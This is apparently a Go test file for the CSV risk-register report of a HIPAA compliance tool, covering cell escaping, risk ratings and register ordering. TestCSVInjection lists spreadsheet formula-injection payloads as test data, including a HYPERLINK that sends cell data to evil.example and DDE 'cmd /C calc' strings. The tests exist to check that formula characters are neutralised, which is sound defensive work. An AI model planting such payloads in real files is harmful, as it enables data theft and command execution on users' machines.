package reports

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/safeguard-hipaa/safeguard/assess"
	"github.com/safeguard-hipaa/safeguard/diag"
	"github.com/safeguard-hipaa/safeguard/policies"
)

func TestCSVGolden(t *testing.T) {
	golden(t, "csv", "fixture.csv", render(t, "csv", Options{}))
}

// readCSV parses a written register, checking every row has the header's
// width.
func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("parse csv: %v", err)
	}
	if len(rows) == 0 || strings.Join(rows[0], ",") != strings.Join(csvHeader, ",") {
		t.Fatalf("header = %v, want %v", rows, csvHeader)
	}
	return rows
}

func TestCSVRows(t *testing.T) {
	a := fixture(t)
	rows := readCSV(t, render(t, "csv", Options{}))
	risks := RiskRegister(a)
	if len(rows) != len(risks)+1 {
		t.Fatalf("%d rows, want a header and %d risks", len(rows), len(risks))
	}
	col := map[string]int{}
	for i, h := range csvHeader {
		col[h] = i
	}
	for i, r := range risks {
		row := rows[i+1]
		for name, want := range map[string]string{"id": r.ID, "risk_level": r.Level.String(), "rule_id": r.Rule, "citation": r.Citation, "first_location": r.First, "as_of": a.AsOf} {
			if row[col[name]] != want {
				t.Errorf("row %d %s = %q, want %q", i+1, name, row[col[name]], want)
			}
		}
	}
	// The hostile document name and message survive as data, byte for byte.
	found := false
	for _, row := range rows[1:] {
		if strings.Contains(row[col["example"]], hostile) {
			found = true
		}
	}
	if !found {
		t.Errorf("no example cell holds the hostile string intact")
	}
}

func TestCSVCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"=1+1", "'=1+1"},
		{"+SUM(A1:A2)", "'+SUM(A1:A2)"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=cmd", "'\t=cmd"},
		{"\r=cmd", "'\r=cmd"},
		{"\n=cmd", "'\n=cmd"},
		{"＝1+1", "'＝1+1"},
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{"＠SUM(A1)", "'＠SUM(A1)"},
		{"a=b", "a=b"},
		{"'quoted", "'quoted"},
		{hostile, hostile},
	}
	for _, tt := range tests {
		if got := csvCell(tt.in); got != tt.want {
			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestCSVInjection puts formulas where evidence goes and checks that no cell
// of the written register starts with a formula character.
func TestCSVInjection(t *testing.T) {
	payloads := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`,
		`+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
		"\n=1+1",
		"＝HYPERLINK(\"http://evil.example\")",
		hostile,
	}
	for _, p := range payloads {
		t.Run(strings.TrimSpace(p[:min(len(p), 12)]), func(t *testing.T) {
			a := fixture(t)
			for i := range a.Findings {
				a.Findings[i].Message = p
				a.Findings[i].Range.Filename = p
			}
			for _, r := range a.Rules {
				r.Remediation, r.Title = p, p
			}
			var buf bytes.Buffer
			if err := writeCSV(&buf, a, Options{}); err != nil {
				t.Fatal(err)
			}
			for i, row := range readCSV(t, buf.Bytes())[1:] {
				for j, cell := range row {
					if r, _ := utf8.DecodeRuneInString(cell); cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", r) {
						t.Errorf("row %d column %s starts with %q: %q", i+1, csvHeader[j], r, cell)
					}
				}
				if ex := row[15]; ex != csvCell(p) {
					t.Errorf("example = %q, want %q", ex, csvCell(p))
				}
			}
		})
	}
}

func TestRiskLevel(t *testing.T) {
	L, M, H := RatingLow, RatingMedium, RatingHigh
	tests := []struct {
		likelihood, impact, want Rating
	}{
		{L, L, RatingLow}, {L, M, RatingLow}, {L, H, RatingMedium},
		{M, L, RatingLow}, {M, M, RatingMedium}, {M, H, RatingHigh},
		{H, L, RatingMedium}, {H, M, RatingHigh}, {H, H, RatingCritical},
		{RatingNone, H, RatingNone},
	}
	for _, tt := range tests {
		if got := riskLevel(tt.likelihood, tt.impact); got != tt.want {
			t.Errorf("riskLevel(%s, %s) = %s, want %s", tt.likelihood, tt.impact, got, tt.want)
		}
	}
}

func TestLikelihoodAndImpact(t *testing.T) {
	tests := []struct {
		sev        policies.Severity
		affected   int
		spec       string
		likelihood Rating
		impact     Rating
	}{
		{policies.Critical, 1, "required", RatingHigh, RatingHigh},
		{policies.Critical, 1, "addressable", RatingHigh, RatingHigh},
		{policies.High, 1, "required", RatingMedium, RatingHigh},
		{policies.High, 1, "addressable", RatingMedium, RatingMedium},
		{policies.High, widespread, "required", RatingHigh, RatingHigh},
		{policies.Medium, 1, "required", RatingMedium, RatingMedium},
		{policies.Medium, 1, "addressable", RatingMedium, RatingLow},
		{policies.Medium, widespread - 1, "required", RatingMedium, RatingMedium},
		{policies.Low, 1, "required", RatingLow, RatingLow},
		{policies.Low, widespread, "addressable", RatingMedium, RatingLow},
		{policies.Info, 1, "required", RatingLow, RatingLow},
	}
	for _, tt := range tests {
		if got := likelihood(tt.sev, tt.affected); got != tt.likelihood {
			t.Errorf("likelihood(%s, %d) = %s, want %s", tt.sev, tt.affected, got, tt.likelihood)
		}
		if got := impact(tt.sev, tt.spec); got != tt.impact {
			t.Errorf("impact(%s, %s) = %s, want %s", tt.sev, tt.spec, got, tt.impact)
		}
	}
}

func TestRiskRegister(t *testing.T) {
	at := func(file string, line int) diag.Range {
		p := diag.Pos{Line: line, Column: 1, Byte: -1}
		return diag.Range{Filename: file, Start: p, End: p}
	}
	type want struct {
		id, rule, citation string
		level              Rating
		affected, new      int
		first              string
	}
	tests := []struct {
		name   string
		change func(a *assess.Assessment)
		want   []want
	}{
		{
			name:   "fixture: waived finding left out, highest risk first, then citation",
			change: func(*assess.Assessment) {},
			want: []want{
				{"R01", "SG-BA-001", "164.308(b)(3)", RatingCritical, 1, 1, "encryption.hcl:12:5"},
				{"R02", "SG-AC-001", "164.312(a)(2)(i)", RatingHigh, 1, 0, "access/epic ehr.yaml:41:7"},
				{"R03", "SG-PG-002", "164.308(a)(1)(ii)(A)", RatingLow, 1, 1, "program.yaml:9:3"},
				{"R04", "SG-TR-002", "164.308(a)(5)(ii)(A)", RatingLow, 1, 0, "training.yaml:27:11"},
			},
		},
		{
			name: "findings of one rule group, the first place wins, and many raise likelihood",
			change: func(a *assess.Assessment) {
				base := a.Findings[0] // SG-AC-001, high, required
				for i, line := range []int{90, 80, 7, 60} {
					f := base
					f.Range = at("access/epic ehr.yaml", line)
					f.Fingerprint = string(rune('a' + i))
					a.Findings = append(a.Findings, f)
				}
			},
			want: []want{
				{"R01", "SG-BA-001", "164.308(b)(3)", RatingCritical, 1, 1, "encryption.hcl:12:5"},
				{"R02", "SG-AC-001", "164.312(a)(2)(i)", RatingCritical, 5, 0, "access/epic ehr.yaml:7:1"},
				{"R03", "SG-PG-002", "164.308(a)(1)(ii)(A)", RatingLow, 1, 1, "program.yaml:9:3"},
				{"R04", "SG-TR-002", "164.308(a)(5)(ii)(A)", RatingLow, 1, 0, "training.yaml:27:11"},
			},
		},
		{
			name: "nothing open, nothing registered",
			change: func(a *assess.Assessment) {
				for i := range a.Findings {
					a.Findings[i].Waiver = &assess.Waiver{Rule: a.Findings[i].RuleID, Reason: "accepted", Expires: "2099-01-01"}
				}
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := fixture(t)
			tt.change(a)
			got := RiskRegister(a)
			if len(got) != len(tt.want) {
				t.Fatalf("%d risks, want %d: %+v", len(got), len(tt.want), got)
			}
			for i, w := range tt.want {
				g := got[i]
				if g.ID != w.id || g.Rule != w.rule || g.Citation != w.citation || g.Level != w.level || g.Affected != w.affected || g.New != w.new || g.First != w.first {
					t.Errorf("risk %d = %s %s %s %s affected %d new %d at %s\nwant %s %s %s %s affected %d new %d at %s", i,
						g.ID, g.Rule, g.Citation, g.Level, g.Affected, g.New, g.First,
						w.id, w.rule, w.citation, w.level, w.affected, w.new, w.first)
				}
				if g.Threat == "" || g.Vulnerability == "" || g.Remediation == "" || g.Control == "" {
					t.Errorf("risk %s lacks text: %+v", g.ID, g)
				}
			}
		})
	}
}
